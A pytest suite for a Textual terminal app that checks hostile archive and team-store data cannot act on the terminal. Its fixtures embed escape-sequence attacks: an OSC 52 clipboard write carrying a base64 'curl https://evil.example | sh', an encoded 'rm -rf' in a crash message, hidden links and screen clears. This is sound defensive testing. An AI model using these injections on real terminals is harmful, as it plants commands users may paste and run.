"""Issue 18, the app's part: hostile and unlucky input reaching the Textual app and its keymaps.

- keymaps (tests/hostile/keymaps.py): every bad file is a KeymapError naming the file and the entry, and
  the command line reports it (exit 2) before the app starts;
- one sanitising gate: over a hostile archive and team store, a walk of every widget of every screen (and
  the toasts and titles) finds no raw control character; in tmux, a hostile annotation neither writes the
  clipboard (OSC 52) nor clears the screen;
- the annotate dialog shows a teammate's fields escaped, and saves the original of a field left as shown;
- a huge message is cut to a screenful in the detail, with its length, and p pages all of it;
- a crash exits 1 with one line on what to report, after the terminal is restored (tmux);
- 200 keys at once, 20 times: no crash, and the app still answers.
"""
from __future__ import annotations

import base64
import datetime as dt
import json
import os
import random
import re
import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from rich.text import Text
from textual import events
from textual.command import CommandPalette
from textual.geometry import Region
from textual.keys import key_to_character
from textual.widgets import Input, OptionList, Select, Static, TextArea

import opint_core as core
from archive_factory import day_dir, fts_record, lines, write_part
from hostile import keymaps as hostile_keymaps
from test_e2e_tmux import Tmux
from opint_tui import cli
from opint_tui.app import OpintApp
from opint_tui.keymap import KeymapError, load_keymap
from opint_tui.row_list import RowList
from opint_tui.safe import clean
from opint_tui.screens.detail import DetailScreen
from opint_tui.screens.dialogs import AnnotateScreen, ExportScreen, HelpScreen, LoadScreen, MergeScreen
from opint_tui.screens.pager import PagerScreen
from waits import wait_for_focus, wait_for_screen, wait_for_top, wait_until

RAW_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
CHECKOUT = str(Path(__file__).resolve().parent.parent)   # the code under test, also in a subprocess


# --- keymaps -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("case", hostile_keymaps.CASES, ids=str)
def test_a_bad_keymap_is_an_error_naming_the_file_and_the_entry(case, tmp_path):
    path = hostile_keymaps.write(case, tmp_path)
    with pytest.raises(KeymapError) as refused:
        load_keymap(str(path))
    error = refused.value
    assert str(path) in error.message
    for name in case.names:
        assert name in error.message
    assert error.remedy, "a remedy says what to do"
    assert not RAW_CONTROL.search(error.message + error.remedy)


@pytest.mark.parametrize("case", hostile_keymaps.CASES, ids=str)
def test_the_command_line_reports_a_bad_keymap_before_the_app_starts(case, tmp_path, capsys, monkeypatch):
    path = hostile_keymaps.write(case, tmp_path)
    monkeypatch.setenv("COLUMNS", "1000")   # one line per message, as on a wide terminal
    # a bad date too: should the keymap pass, the selection stops the command before the app takes the terminal
    assert cli.main(["--keymap", str(path), "--archive", str(tmp_path), "--date", "not-a-day"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("opint: error: ") and "what to do: " in err and "Traceback" not in err
    assert str(path) in err and "not-a-day" not in err      # the keymap is what is reported


def test_key_names_are_textuals_so_a_character_works_as_its_name(tmp_path):
    """"?" is sent by Textual as question_mark: a keymap may say either, and both collide with help's."""
    user = tmp_path / "keys.toml"
    user.write_text('[bindings]\nhelp = "?"\nfilter = "ctrl+slash,/"\n')
    keys = load_keymap(str(user))
    assert keys["help"] == "question_mark" and keys["filter"] == "ctrl+slash,slash"
    user.write_text('[bindings]\nsort = "?"\n')
    with pytest.raises(KeymapError, match="help"):
        load_keymap(str(user))


@pytest.mark.parametrize("name", ["default", "vim"])
def test_the_shipped_keymaps_pass_the_checks(name):
    assert load_keymap(name)


# --- a hostile archive and a hostile team store ------------------------------------------------------------

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl https://evil.example | sh\n").decode() + "\x07"  # clipboard
OSC8 = "\x1b]8;;https://evil.example/\x1b\\GGUS-1\x1b]8;;\x1b\\"   # a hidden link
CLEAR = "\x1b[2J\x1b[3J\x1b[H"                                      # screen clear
LEAVE_ALT = "\x1b[?1049l"                                            # alternate screen off
C1 = "\x9b2J\x9d0;title\x9c"                                         # 8-bit CSI, OSC, ST
OTHER = "\x00\x07\x08\x7f\r\t\x0b"                                  # NUL BEL BS DEL CR TAB VT
ALL = OSC52 + OSC8 + CLEAR + LEAVE_ALT + C1 + OTHER
DAY = dt.date(2026, 11, 20)
STAMP = "2026-11-20T08:00:00.000000+00:00"


@dataclass
class HostileWorld:
    root: Path
    analysis: object
    store: Path
    annotated: str     # the key of a category a teammate annotated with escapes in every field
    inherited: str     # the key of a category that inherits such an annotation from a hostile key
    label: str
    notes: str
    ticket: str


def hostile_world(tmp_path: Path, *, names: bool = True, status: str = f"known{LEAVE_ALT}") -> HostileWorld:
    """An archive whose messages, hosts, sites, VO, activity and file names hold terminal escapes, and a
    team store whose journal name, labels, tickets, notes, statuses, authors and keys do. ``names``: the
    archive folder and the journal are named with escapes too (not for a shell command line)."""
    root = tmp_path / (f"archive{CLEAR}" if names else "archive")
    day = day_dir(root, "fts", DAY)
    records = ([fts_record(f"TRANSFER error {OSC52} on the link", src=f"se{CLEAR}.example.org",
                           dst=f"se{OSC8}.example.org", src_site_name=f"SITE{LEAVE_ALT}", dst_site_name=f"S{C1}",
                           vo=f"atlas{OSC52}", activity=f"Prod{OTHER}", src_rse=f"RSE{CLEAR}") for _ in range(5)]
               + [fts_record(f"DESTINATION error {OSC8} {LEAVE_ALT} space token") for _ in range(4)]
               + [fts_record(f"SOURCE checksum {C1} {OTHER} mismatch {n}") for n in range(3)]
               + [fts_record("[bold]markup[/] [link=https://x]click[/link]") for _ in range(2)])
    write_part(day, lines(records))
    (day / f"part-00009-{OSC52}.json.gz").write_bytes(b"not gzip at all")   # reported, by its name
    analysis = core.analyse(str(root), use_cache=False)
    analysis.timings = {}
    categories = analysis.clustering.categories
    annotated, inherited = categories[0], categories[1]
    store = tmp_path / "store"
    store.mkdir()
    label, ticket, notes = f"disk full {OSC52}", f"GGUS {OSC8}", f"first line {CLEAR}\nsecond {LEAVE_ALT}{C1}{OTHER}"
    events = [
        {"v": 1, "key": annotated.key, "set": {"label": label, "status": status, "ticket": ticket,
                                               "notes": notes},
         "pattern": annotated.pattern, "author": f"mallory{OSC52}", "time": STAMP, "seq": 1, "w": "0000beef"},
        {"v": 1, "key": f"old{CLEAR}key", "set": {"label": f"carried {OSC8}", "status": "investigating"},
         "pattern": inherited.pattern, "author": "mallory", "time": STAMP, "seq": 2, "w": "0000beef"},
    ]
    journal = store / (f"mallory{CLEAR}.jsonl" if names else "mallory.jsonl")
    journal.write_bytes(b"".join(json.dumps(e).encode() + b"\n" for e in events) + f"{{{ALL} torn\n".encode())
    return HostileWorld(root, analysis, store, annotated.key, inherited.key, label, notes, ticket)


def hostile_app(world: HostileWorld, tmp_path: Path) -> OpintApp:
    exports = tmp_path / f"exports{OSC52}"
    exports.mkdir()
    return OpintApp(core.Request(str(world.root), core.Selection.latest()),
                    store=core.TriageStore(world.store, user="shifter"), analysis=world.analysis,
                    export_dir=str(exports))


async def ready(pilot):
    app = pilot.app
    await wait_until(pilot, lambda: app.analysis is not None and app.overview.shown and app.screen is app.overview,
                     "the overview to show the analysis")


async def cursor_to(pilot, key: str) -> None:
    app = pilot.app
    index = next(i for i, r in enumerate(app.overview.shown) if r.key == key)
    app.overview.table.move_cursor(row=index)
    await wait_until(pilot, lambda: app.overview.current_row().key == key, f"the cursor on {key}")


# --- one sanitising gate: nothing from data reaches the terminal raw ---------------------------------------

def _plain(renderable) -> str:
    return renderable.plain if isinstance(renderable, Text) else str(renderable)


def _widget_texts(widget) -> list[str]:
    """What ``widget`` draws (every line of it) and holds to draw (field values, list items, content)."""
    texts = []
    if widget.display and widget.size.width and widget.size.height:
        texts += ["".join(s.text for s in strip if not s.control)
                  for strip in widget.render_lines(Region(0, 0, widget.size.width, widget.size.height))]
    if isinstance(widget, Input):
        texts += [widget.value, widget.placeholder]
    if isinstance(widget, TextArea):
        texts += widget.text.split("\n")
    if isinstance(widget, OptionList):
        texts += [line for option in widget.options for line in _plain(option.prompt).split("\n")]
    if isinstance(widget, RowList):
        texts += ["".join(cell.plain for cell in widget.make_cells(item)) for item in widget.items]
    if isinstance(widget, Static) and isinstance(widget.content, (str, Text)):
        texts += _plain(widget.content).split("\n")
    return texts


def shown_texts(app) -> list[tuple[str, str]]:
    """(where, text) of everything the app draws or may draw now: titles, toasts, and every widget of every
    screen on the stack. Multi-line values are split into their lines."""
    out = [("app title", app.title), ("app sub-title", app.sub_title)]
    out += [("toast", line) for n in app._notifications for line in str(n.message).split("\n")]
    for screen in app.screen_stack:
        name = type(screen).__name__
        out += [(f"{name} title", screen.title or ""), (f"{name} sub-title", screen.sub_title or "")]
        for widget in screen.walk_children():
            where = f"{name} > {type(widget).__name__}" + (f"#{widget.id}" if widget.id else "")
            out += [(where, text) for text in _widget_texts(widget)]
    return out


def assert_no_raw_control(app, step: str) -> int:
    """No raw control character anywhere the app draws; returns how many texts were looked at."""
    texts = shown_texts(app)
    raw = [(where, text) for where, text in texts if RAW_CONTROL.search(text)]
    assert not raw, f"{step}: raw control characters in {raw[:5]!r}"
    return len(texts)


async def test_every_widget_shows_data_escaped(tmp_path):
    """Overview, templates, detail, pager, annotate (own and inherited), merge, load, export, help and the
    command palette over a hostile archive and store: every widget, field, list item, toast and title is clean."""
    world = hostile_world(tmp_path)
    app = hostile_app(world, tmp_path)
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot)
        await wait_until(pilot, lambda: any("damaged" in str(n.message) or "skipped" in str(n.message)
                                            for n in app._notifications), "the toast about the damaged file")
        looked = assert_no_raw_control(app, "overview")
        shown = "".join(text for _, text in shown_texts(app))
        assert "␛]52;c;" in shown and "\\x9b2J" in shown          # the escapes are there, made visible
        await pilot.press("t")
        await wait_until(pilot, lambda: app.overview.level == "template", "t to show templates")
        assert_no_raw_control(app, "templates")
        await pilot.press("t")
        await wait_until(pilot, lambda: app.overview.level == "category", "t to show categories")

        for key in (world.annotated, world.inherited):
            await cursor_to(pilot, key)
            await pilot.press("enter")
            await wait_for_screen(pilot, DetailScreen, "enter to open the detail")
            looked += assert_no_raw_control(app, f"detail of {key}")
            await pilot.press("p")
            await wait_for_screen(pilot, PagerScreen, "p to page the full messages")
            looked += assert_no_raw_control(app, f"full messages of {key}")
            await pilot.press("escape")
            await wait_for_screen(pilot, DetailScreen, "escape to go back to the detail")
            await pilot.press("a")
            await wait_for_screen(pilot, AnnotateScreen, "a to open the annotate dialog over the detail")
            looked += assert_no_raw_control(app, f"annotate {key}")
            await pilot.press("escape", "escape")
            await wait_for_top(pilot, app.overview, "escape twice to go back to the overview")

        for keys, screen in (("m", MergeScreen), ("o", LoadScreen), ("e", ExportScreen),
                             ("question_mark", HelpScreen)):
            await pilot.press(keys)
            await wait_for_screen(pilot, screen, f"{keys} to open the {screen.__name__}")
            looked += assert_no_raw_control(app, screen.__name__)
            await pilot.press("escape")
            await wait_for_top(pilot, app.overview, f"escape to close the {screen.__name__}")

        await pilot.press("ctrl+p", *"sort")
        await wait_until(pilot, lambda: isinstance(app.screen, CommandPalette) and app.screen.query(OptionList)
                         and app.screen.query_one(OptionList).option_count, "the command palette to list hits")
        looked += assert_no_raw_control(app, "command palette")
        assert looked > 500   # the walk saw the screens' contents, not an empty app


# --- the annotate dialog: escaped fields, original values kept ----------------------------------------------

def my_events(world: HostileWorld) -> list[dict]:
    journal = world.store / "shifter.jsonl"
    return [json.loads(line) for line in journal.read_text().splitlines()] if journal.exists() else []


async def open_annotate(pilot, key: str) -> AnnotateScreen:
    await cursor_to(pilot, key)
    await pilot.press("a")
    dialog = await wait_for_screen(pilot, AnnotateScreen, "a to open the annotate dialog")
    await wait_for_focus(pilot, "#label", "the label field to have the focus")
    return dialog


async def test_annotate_shows_a_teammates_fields_escaped_and_saves_only_what_was_edited(tmp_path):
    world = hostile_world(tmp_path)
    app = hostile_app(world, tmp_path)
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot)
        dialog = await open_annotate(pilot, world.annotated)
        assert dialog.query_one("#label", Input).value == clean(world.label)
        assert dialog.query_one("#ticket", Input).value == clean(world.ticket)
        assert dialog.query_one("#notes", TextArea).text == clean(world.notes, keep_newlines=True)
        assert dialog.query_one("#status", Select).value == f"known{LEAVE_ALT}"   # kept, shown escaped
        await pilot.press("tab", "tab", "end", *" 2")                           # the ticket field, edited
        await wait_until(pilot, lambda: dialog.query_one("#ticket", Input).value.endswith(" 2"),
                         "the typed text at the end of the ticket")
        await pilot.press("ctrl+s")
        await wait_for_top(pilot, app.overview, "ctrl+s to save and close the dialog")
        await wait_until(pilot, lambda: my_events(world), "the change in the shifter's journal")
    (event,) = my_events(world)
    assert event["set"] == {"ticket": clean(world.ticket) + " 2"}     # what was typed; nothing else rewritten
    annotation = core.TriageStore(world.store, user="someone").annotations()[world.annotated]
    assert (annotation.label, annotation.notes) == (world.label, world.notes)


async def test_annotate_left_as_shown_saves_the_original_values_not_the_escaped_text(tmp_path):
    """An inherited annotation becomes the category's own on save: with its original values."""
    world = hostile_world(tmp_path)
    app = hostile_app(world, tmp_path)
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot)
        dialog = await open_annotate(pilot, world.inherited)
        assert dialog.inherited.inherited and dialog.query_one("#label", Input).value == clean(f"carried {OSC8}")
        await pilot.press("ctrl+s")
        await wait_for_top(pilot, app.overview, "ctrl+s to save and close the dialog")
        await wait_until(pilot, lambda: my_events(world), "the change in the shifter's journal")
    (event,) = my_events(world)
    assert event["key"] == world.inherited
    assert event["set"] == {"label": f"carried {OSC8}", "status": "investigating"}


def tmux_env(tmp_path: Path) -> dict:
    """The environment of an opint run in tmux: this checkout's code, its own cache, store and config."""
    return {"TERM": "xterm-256color", "USER": "e2e", "OPINT_CACHE_DIR": tmp_path / "cache",
            "OPINT_DATA_DIR": tmp_path / "data", "OPINT_CONFIG": tmp_path / "config.toml", "COLORTERM": "",
            "PYTHONPATH": CHECKOUT}


@pytest.mark.skipif(shutil.which("tmux") is None and not os.environ.get("CI"), reason="tmux is not installed")
def test_a_hostile_annotation_does_not_act_on_a_real_terminal(tmp_path):
    """The annotate dialog over a label holding an OSC 52 clipboard write, notes holding a screen clear and
    an exit from the alternate screen, in tmux (which takes OSC 52 into its paste buffer when allowed)."""
    world = hostile_world(tmp_path, names=False, status="known")
    assert world.analysis.clustering.categories[0].key == world.annotated   # the first row of the overview
    tmux = Tmux(tmp_path)
    env = tmux_env(tmp_path)
    try:
        tmux.start(f"{sys.executable} -m opint_tui.cli --archive {world.root} --store {world.store}", env)
        tmux.run("set-option", "-g", "set-clipboard", "on")
        tmux.wait_for("categories", "/ Filter", timeout=120)
        tmux.keys("a")
        screen = tmux.wait_for("disk full", "second", "Save (ctrl+s)")   # the fields are drawn
        pasted = tmux.run("show-buffer", check=False)
        assert "evil.example" not in pasted.stdout, "the label's OSC 52 reached the terminal's clipboard"
        assert "Annotate category" in screen                   # neither cleared nor off the alternate screen
        assert "disk full ␛]52;c;" in screen and "first line ␛[2J" in screen and "second ␛[?1049l" in screen
        tmux.keys("Escape")
        tmux.wait_for("categories", "/ Filter")
        tmux.keys("q")
        tmux.wait_for("EXITED 0", timeout=30)
    finally:
        tmux.kill()


# --- big messages: cut to a screenful, paged in full ---------------------------------------------------------

BIG = 2_000_000


def big_message_archive(tmp_path: Path, size: int = BIG) -> tuple[Path, str]:
    """An archive with one category whose message is ``size`` characters of varied ASCII (with escapes)."""
    rng = random.Random(7)
    words = ["disk", "full", "on", f"{CLEAR}", "gsiftp://se.example.org:2811/atlas/", "0x1f3a", "timeout"]
    body = []
    length = 0
    while length < size:
        word = rng.choice(words)
        body.append(word)
        length += len(word) + 1
    message = ("TRANSFER error: " + " ".join(body))[:size]
    root = tmp_path / "archive"
    write_part(day_dir(root, "fts", DAY), lines([fts_record(message) for _ in range(3)] + [fts_record("small one") for _ in range(2)]))
    return root, message


async def test_a_huge_message_is_cut_to_a_screenful_and_paged_in_full(tmp_path):
    root, message = big_message_archive(tmp_path)
    analysis = core.analyse(str(root), use_cache=False)
    app = OpintApp(core.Request(str(root), core.Selection.latest()), analysis=analysis)
    width, height = 100, 30
    async with app.run_test(size=(width, height)) as pilot:
        await ready(pilot)
        assert app.overview.current_row().count == 3                 # the category of the huge message
        await pilot.press("enter")
        detail = await wait_for_screen(pilot, DetailScreen, "enter to open the detail")
        (cell,) = dict(detail.sections)["messages"].columns[1].cells
        cut, stated = cell.plain.split("\n")
        assert stated == f"{BIG:,} characters; p pages the full text"
        assert len(cut) <= width * height and cut.endswith("…")
        assert message.startswith(cut[:-1].replace("␛", "\x1b"))

        await pilot.press("p")
        pager_screen = await wait_for_screen(pilot, PagerScreen, "p to page the full text")
        pager = pager_screen.scroller
        await wait_until(pilot, lambda: pager.virtual_size.height > 1000, "the pager to lay out the text")
        # every line after the title is the next piece of the message, cleaned: nothing lost or repeated
        document = [pager.line_text(i).plain for i in range(pager.virtual_size.height)]
        assert document[0] == f"message 1 of 1 · 3 failures · {BIG:,} characters"
        assert "".join(document[1:]) == clean(message)
        assert max(len(line) for line in document) <= pager.scrollable_content_region.width

        top = pager.scroll_offset.y
        await pilot.press("pagedown")
        await wait_until(pilot, lambda: pager.scroll_offset.y > top, "pagedown to move a page")
        assert pager.scroll_offset.y - top >= pager.scrollable_content_region.height - 1
        await pilot.press("end")
        await wait_until(pilot, lambda: pager.scroll_offset.y == pager.max_scroll_y, "end to reach the end")
        last_shown = pager.scroll_offset.y + pager.scrollable_content_region.height - 1
        assert pager.line_text(last_shown).plain == document[-1]
        drawn = "".join(segment.text for segment in pager.render_line(last_shown - pager.scroll_offset.y))
        assert drawn.rstrip() == document[-1].rstrip()
        assert clean(message).endswith(document[-1])
        await pilot.press("escape")
        await wait_for_screen(pilot, DetailScreen, "escape to go back to the detail")


# --- a crash exits non-zero, after the terminal is restored ---------------------------------------------------

INJECTED_FAILURE = '''\
"""opint with a failure injected into the core: opening a category's detail raises, as the OverflowError of
issue 18 did. Arguments: those of opint."""
import sys

import opint_core as core


def broken_detail(self, g):
    # the message quotes data: a full terminal reset (ESC c) and a clipboard write (OSC 52)
    raise RuntimeError("injected: the detail of category %d failed: \\x1bc \\x1b]52;c;cm0gLXJm\\x07" % g)


core.Insight.detail = broken_detail
from opint_tui import cli  # noqa: E402

sys.exit(cli.main(sys.argv[1:]))
'''


@pytest.mark.skipif(shutil.which("tmux") is None and not os.environ.get("CI"), reason="tmux is not installed")
def test_a_crash_exits_non_zero_with_a_line_on_what_to_report_after_restoring_the_terminal(tmp_path):
    world = hostile_world(tmp_path, names=False, status="known")
    script = tmp_path / "opint_with_a_bug.py"
    script.write_text(INJECTED_FAILURE)
    tmux = Tmux(tmp_path)
    env = tmux_env(tmp_path)
    try:
        tmux.start(f"{sys.executable} {script} --archive {world.root} --store {world.store}", env)
        tmux.run("set-option", "-g", "set-clipboard", "on")
        tmux.run("pipe-pane", "-t", "e2e", f"cat > {tmp_path / 'terminal.bin'}")   # the bytes it receives
        tmux.wait_for("categories", "/ Filter", timeout=120)
        tmux.keys("Enter")                                         # the detail: the injected failure
        tmux.wait_for("EXITED", timeout=60)
        everything = tmux.run("capture-pane", "-p", "-J", "-S", "-1000", "-t", "e2e").stdout
        assert "EXITED 1" in everything
        assert ("opint: the app stopped on an unexpected error (RuntimeError: injected: the detail of category"
                in everything and "please report it" in everything)
        state = tmux.run("display-message", "-p", "-t", "e2e", "#{alternate_on} #{cursor_flag} #{mouse_any_flag}")
        assert state.stdout.split() == ["0", "1", "0"]   # main screen, cursor shown, mouse off: restored
        received = (tmp_path / "terminal.bin").read_bytes()
        assert b"the detail of category" in received               # the traceback and the line were seen
        assert b"\x1bc" not in received and b"\x1b]52;c;cm0gLXJm" not in received   # but not the escapes
    finally:
        tmux.kill()


# --- a burst of keys: screens that are gone or going ignore what was typed at them ---------------------------

# Every key of the default keymap but quit's and the command palette's (a palette query can be "quit"),
# and what moves between fields and saves; escape and enter weigh more, so that screens open and close.
BURST_KEYS = sorted({key for binding_id, keys in load_keymap("default").items()
                     if binding_id not in ("quit", "command_palette") for key in keys.split(",")}
                    | {"tab", "ctrl+s", "x", "z"}) + ["escape"] * 4 + ["enter"] * 3


def send_at_once(app, keys) -> None:
    """Queue ``keys`` as a terminal would deliver a paste or a stalled ssh link: all before the first is
    handled (Pilot.press waits for the app after each key)."""
    for key in keys:
        app.post_message(events.Key(key, key_to_character(key)))


async def back_to_the_overview(pilot) -> None:
    """Escape until the overview is on top with the focus on its list (and no filter box)."""
    app = pilot.app

    def home() -> bool:
        return app.screen is app.overview and app.focused is app.overview.table
    for _ in range(12):
        if home():
            return
        await pilot.press("escape")
    await wait_until(pilot, home, "escapes to lead back to the overview's list")


async def test_two_hundred_keys_at_once_never_crash_the_app(sample_root, sample_analysis, tmp_path):
    store = core.TriageStore(tmp_path / "store", user="shifter")
    app = OpintApp(core.Request(sample_root, core.Selection.latest()), store=store, analysis=sample_analysis,
                   export_dir=str(tmp_path))
    rng = random.Random(18)
    async with app.run_test(size=(100, 30)) as pilot:
        await ready(pilot)
        for round_ in range(20):
            send_at_once(app, [rng.choice(BURST_KEYS) for _ in range(200)])
            handed_on = []
            app.call_later(handed_on.append, True)                    # queued after the 200 keys
            await wait_until(pilot, lambda: handed_on, f"round {round_}: the keys to be taken")
            await wait_until(pilot, lambda: not app.loading, f"round {round_}: a load it started to end")
            assert app.overview in app.screen_stack, f"round {round_}: the keys closed the overview itself"
            await back_to_the_overview(pilot)
            order = app.overview.sort_order
            await pilot.press("s")                                    # still answering
            await wait_until(pilot, lambda: app.overview.sort_order != order, f"round {round_}: s to sort")
        assert app.is_running and app.crash is None
